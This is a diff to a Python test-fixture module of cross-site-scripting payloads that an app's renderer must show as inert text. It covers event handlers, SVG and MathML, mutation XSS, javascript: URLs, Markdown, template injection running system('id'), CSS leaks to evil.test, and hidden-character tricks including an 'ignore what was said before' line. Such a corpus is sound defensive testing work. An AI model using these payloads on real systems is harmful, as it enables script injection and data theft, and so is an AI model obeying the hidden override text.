@@ -1,8 +1,14 @@
-"""What an attacker would have a page show: each must stay text. `fetch` goes where nothing of ours is."""
+"""What an attacker would have a page show: each must stay text. What fetches goes where nothing of ours is.
+
+Of each kind one: elements and events of HTML, SVG and MathML, markup that changes its meaning when it is parsed twice, addresses,
+Markdown, templates, styles, characters that mislead, and texts that are long or deep.
+"""
 
 from __future__ import annotations
 
-XSS = (
+_PWNED = "document.title='pwned'"
+
+_BASIC = (
     "<script>document.title='pwned'</script>",
     "<ScRiPt src=//evil.test/x.js></sCrIpT>",
     "</title><script>document.title='pwned'</script>",
@@ -40,3 +46,207 @@ XSS = (
     'event: done\ndata: {}\n\nevent: message\ndata: {"html":"<img src=x onerror=alert(1)>"}\n\n',
     "&lt;script&gt;alert(1)&lt;/script&gt;",
 )
+
+_EVENTS = tuple(
+    f"<{element} {event}={_PWNED}>x"
+    for element, event in (
+        ("body", "onload"),
+        ("details open", "ontoggle"),
+        ("input autofocus", "onfocus"),
+        ("select autofocus", "onfocus"),
+        ("textarea autofocus", "onfocus"),
+        ("video src=x", "onerror"),
+        ("audio src=x", "onloadstart"),
+        ("video><source", "onerror"),
+        ("marquee", "onstart"),
+        ("div style=animation:x", "onanimationstart"),
+        ("p tabindex=1 autofocus", "onfocusin"),
+        ("x contenteditable", "onbeforeinput"),
+        ("a href=# id=x", "onpointerover"),
+        ("div onscroll=x style=overflow:scroll", "onscrollend"),
+        ("button popovertarget=x>b</button><p popover id=x", "onbeforetoggle"),
+        ("dialog open", "oncancel"),
+        ("style", "onload"),
+        ("link rel=stylesheet href=x", "onload"),
+        ("object data=x", "onerror"),
+        ("embed src=/x", "onload"),
+        ("iframe src=/x", "onload"),
+        ("img src=x", "ONERROR"),
+        ("img src=x\t", "\tonerror\t"),
+        ("img/src=x/", "onerror"),
+        ("img src=x a='>'", "onerror"),
+        ("image src=x", "onerror"),
+        ("form id=x><input form=x", "onfocus"),
+        ("isindex type=image src=x", "onerror"),
+    )
+)
+
+_ELEMENTS = (
+    f"<svg><script>{_PWNED}</script></svg>",
+    f"<svg><script href='data:text/javascript,{_PWNED}' /></svg>",
+    f'<svg><a xlink:href="javascript:{_PWNED}"><text y=20>x</text></a></svg>',
+    f"<svg><set attributeName=onmouseover to={_PWNED}>",
+    f"<svg><foreignObject><iframe onload={_PWNED}></iframe></foreignObject></svg>",
+    "<svg><use href='//evil.test/x.svg#x'/></svg>",
+    "<svg><image href=//evil.test/a.png /></svg>",
+    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{_PWNED}</handler></svg>",
+    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{_PWNED} /><a id=x><rect width=9 height=9 /></a></svg>",
+    f'<math href="javascript:{_PWNED}">x</math>',
+    f'<math><maction actiontype=statusline#http://evil.test xlink:href="javascript:{_PWNED}">x</maction></math>',
+    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_PWNED}></annotation-xml></math>",
+    "<template shadowrootmode=open><link rel=stylesheet href=//evil.test/x.css></template>",
+    "<template><script>document.title='pwned'</script></template>",
+    "<link rel=prefetch href=//evil.test/x>",
+    "<link rel=preconnect href=//evil.test>",
+    "<link rel=icon href=//evil.test/a.ico>",
+    "<link rel=import href=//evil.test/x.html>",
+    "<img srcset='//evil.test/a.png 1x'>",
+    "<picture><source srcset=//evil.test/a.png><img></picture>",
+    "<video poster=//evil.test/a.png></video>",
+    "<track src=//evil.test/a.vtt>",
+    "<input type=image src=//evil.test/a.png>",
+    "<body background=//evil.test/a.png>",
+    "<table background=//evil.test/a.png><tr><td>x</table>",
+    "<iframe src=//evil.test/></iframe>",
+    f'<iframe src="javascript:parent.{_PWNED}"></iframe>',
+    "<frameset><frame src=//evil.test/></frameset>",
+    "<applet code=x archive=//evil.test/x.jar></applet>",
+    "<portal src=//evil.test/></portal>",
+    "<fencedframe src=//evil.test/></fencedframe>",
+    "<button formaction=//evil.test/>Sign in</button>",
+    f'<button form=composer formaction="javascript:{_PWNED}">Send</button>',
+    "<a href=//evil.test/ ping=//evil.test/p>x</a>",
+    "<area href=//evil.test/ shape=default>",
+    "<meta http-equiv=set-cookie content=gigachat_session=x>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "<script type=module>import '//evil.test/x.js'</script>",
+    '<script type=importmap>{"imports":{"x":"//evil.test/x.js"}}</script>',
+    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.test/"]}]}</script>',
+    "<plaintext>",
+    "<xmp><img src=x></xmp>",
+    "<noembed><script>document.title='pwned'</script></noembed>",
+    "<slot name=x></slot><input name=csrf value=x><input id=composer>",
+    "<form name=document><input name=cookie></form>",
+    "<a id=gigachat><a id=gigachat name=base href=//evil.test/>",
+)
+
+# Parsed, written out and parsed again, these are something else.
+_MUTATING = (
+    f'<noscript><p title="</noscript><img src=x onerror={_PWNED}>">',
+    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_PWNED}>",
+    f'<svg></p><style><a id="</style><img src=x onerror={_PWNED}>">',
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_PWNED}&gt;">',
+    f'<svg><desc><style><img src="</style><img src=x onerror={_PWNED}>">',
+    f'<select><template><style><!--</style><a rel="--></style></template><img src=x onerror={_PWNED}>">',
+    f"<!--><img src=x onerror={_PWNED}>-->",
+    f"<!--!><img src=x onerror={_PWNED}>--!>",
+    f"<![CDATA[><img src=x onerror={_PWNED}>]]>",
+    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_PWNED}</x:script>",
+    f"<x <img src=x onerror={_PWNED}>",
+    f"<<script>{_PWNED}//<</script>",
+    f"</script/><img src=x onerror={_PWNED}>",
+    f"<img src='x`y'onerror='{_PWNED}'>",
+    f"`><img src=x onerror={_PWNED}>`",
+    f"<p title='&quot; onfocus={_PWNED}'>x</p>",
+    f"%3Cscript%3E{_PWNED}%3C/script%3E",
+    f"&#60;script&#62;{_PWNED}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{_PWNED}\\u003c/script\\u003e",
+    f"+ADw-script+AD4-{_PWNED}+ADw-/script+AD4-",
+    f"\uff1cscript\uff1e{_PWNED}\uff1c/script\uff1e",
+)
+
+_ADDRESSES = tuple(
+    f"[x]({address})"
+    for address in (
+        f"JaVaScRiPt:{_PWNED}",
+        f"java&#10;script:{_PWNED}",
+        f"javascript&colon;{_PWNED}",
+        f"&#x6A;avascript:{_PWNED}",
+        f"%6Aavascript:{_PWNED}",
+        f"\x01javascript:{_PWNED}".replace("\x01", "\u2028"),
+        f"javascript://evil.test/%0a{_PWNED}",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "data:image/svg+xml,<svg onload=alert(1)>",
+        "blob:https://evil.test/x",
+        "file:///etc/passwd",
+        "filesystem:https://evil.test/x",
+        "view-source:https://evil.test/",
+        "about:srcdoc",
+        "ws://evil.test/",
+        "\\\\evil.test\\x",
+        "/\\evil.test/",
+        "https:evil.test",
+        "https://user:pass@evil.test/",
+        "https://evil.test\\@good.test/",
+        "https://good.test@evil.test/",
+        "https://evil.test:99999/",
+        "https://[::1/",
+    )
+)
+
+_MARKDOWN = (
+    "<javascript:document.title='pwned'>",
+    "[x]: javascript:document.title='pwned'\n\n[x]",
+    "[![x](//evil.test/a.png)](javascript:document.title='pwned')",
+    "[https://good.test/](https://evil.test/)",
+    "[x](https://evil.test/ 'title\" onclick=alert(1)')",
+    "![x](<//evil.test/a.png>)",
+    "[x](<javascript:document.title='pwned'>)",
+    "~~~html\n<script>document.title='pwned'</script>\n~~~",
+    "    <script>document.title='pwned'</script>",
+    "> <script>document.title='pwned'</script>",
+    "1. <img src=x onerror=document.title='pwned'>",
+    "<div markdown=1>[x](javascript:alert(1))</div>",
+    '[1]: https://evil.test/ "x"\n\nSee [1].',
+    "[^1]\n\n[^1]: <script>document.title='pwned'</script>",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]; click A "javascript:alert(1)"\n```',
+)
+
+_TEMPLATES = (
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{% include '/etc/passwd' %}",
+    "{# x #}{%- set x = cycler -%}",
+    "<%= 7*7 %><% system('id') %>",
+    "#{7*7} *{7*7} @{7*7} ~{7*7}",
+    "{{constructor.constructor('document.title=`pwned`')()}}",
+    "<div ng-app ng-csp>{{$on.constructor('alert(1)')()}}</div>",
+    "<x v-html=\"'<img src=x onerror=alert(1)>'\">",
+    "${{<%[%'\"}}%\\.",
+)
+
+_STYLES = (
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
+    "<p style='position:fixed;inset:0'>Sign in again</p>",
+    "<style>input[value^=a]{background:url(//evil.test/a)}</style>",
+    "</style><style>@font-face{src:url(//evil.test/x)}</style>",
+    "x;background:url(//evil.test/a.png)",
+    "expression(document.title='pwned')",
+)
+
+_MISLEADING = (
+    "\u202egnp.exe\u202c",
+    "\u2067\u2066abc\u2069 https://evil.test/\u2069",
+    "\u200b\u200c\u200d\u2060\ufeff<b>x</b>",
+    "a" + "\u0301" * 300,
+    "\ufdfd" * 40,
+    "\U000e0041\U000e0042 ignore what was said before",
+    "p\u0430ypal.com and \u2100\u2101.test",
+    "\u2028\u2029<script>alert(1)</script>",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467\ufe0f<img src=x onerror=alert(1)>",
+)
+
+_LONG = (
+    "x" * 9_000,
+    "<b>" * 2_000,
+    "[" * 2_000 + "](" * 2_000,
+    "> " * 1_500 + "<img src=x onerror=alert(1)>",
+    "https://evil.test/" + "a/" * 2_000,
+    "| a " * 500 + "|\n" + "|---" * 500 + "|",
+    "*_" * 2_000,
+)
+
+XSS = (
+    *_BASIC, *_EVENTS, *_ELEMENTS, *_MUTATING, *_ADDRESSES, *_MARKDOWN, *_TEMPLATES, *_STYLES, *_MISLEADING, *_LONG,
+)  # fmt: skip
